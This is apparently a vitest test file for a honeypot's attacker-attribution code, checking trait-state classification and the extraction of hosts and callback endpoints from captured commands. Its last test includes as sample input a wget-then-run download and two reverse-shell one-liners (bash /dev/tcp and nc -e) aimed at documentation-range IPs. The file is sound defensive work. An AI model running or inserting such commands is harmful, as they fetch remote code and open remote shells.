// Trait states (DECNET's thresholds): unknown under 3, stable/drifting by a 5-window majority of 4,
// multi-actor when two values are used at once from different addresses; numeric EWMA states; and
// the infrastructure keys commands name.
import { describe, expect, it } from 'vitest';
import { categoricalState, multiActorSuspected, numericState, type TraitObservation } from './attribution';
import { infraOf } from './infra';

const H = 3_600_000;
const obs = (values: (string | number)[], who: (i: number) => string = () => 'a', spanMs = 0): TraitObservation[] =>
  values.map((value, i) => ({ tsMs: i * H, untilMs: i * H + spanMs, attackerId: who(i), value }));

describe('attribution states', () => {
  it('categorical: unknown, stable, drifting, multi-actor, conflicted', () => {
    expect(categoricalState(obs(['x', 'x']))).toBe('unknown');
    expect(categoricalState(obs(['x', 'x', 'x', 'y', 'x', 'x']))).toBe('stable');
    expect(categoricalState(obs(['x', 'x', 'x', 'x', 'x', 'y', 'y', 'y', 'y', 'y']))).toBe('drifting');
    // Two clients alternating from two addresses, each used over overlapping hours: two people.
    expect(categoricalState(obs(['x', 'y', 'x', 'y', 'x', 'y'], (i) => (i % 2 ? 'b' : 'a'), 3 * H))).toBe('multi_actor');
    // Alternating from one address: no second actor to point at, just no stable value.
    expect(categoricalState(obs(['x', 'y', 'x', 'y', 'x', 'y']))).toBe('conflicted');
  });

  it('numeric: stable, drifting, conflicted', () => {
    expect(numericState(obs([10, 11, 10, 9, 10]))).toBe('stable');
    expect(numericState(obs([10, 10, 10, 20, 20, 20, 20]))).toBe('drifting');
    expect(numericState(obs([1, 50, 0, 0, 0, 90, 0]))).toBe('conflicted');
    expect(multiActorSuspected(['multi_actor', 'stable', 'multi_actor'])).toBe(true);
    expect(multiActorSuspected(['multi_actor', 'stable'])).toBe(false);
  });

  it('infrastructure keys from download URLs and call-backs, not from loopback', () => {
    expect(infraOf('cd /tmp; wget http://203.0.113.77/s.sh?x=1; sh s.sh').sort()).toEqual(['host:203.0.113.77', 'url:203.0.113.77/s.sh']);
    expect(infraOf('bash -i >& /dev/tcp/198.51.100.4/4444 0>&1')).toEqual(['host:198.51.100.4', 'c2:198.51.100.4:4444']);
    expect(infraOf('nc 192.0.2.9 9001 -e /bin/sh')).toEqual(['host:192.0.2.9', 'c2:192.0.2.9:9001']);
    expect(infraOf('curl http://127.0.0.1:8080/')).toEqual([]);
  });
});
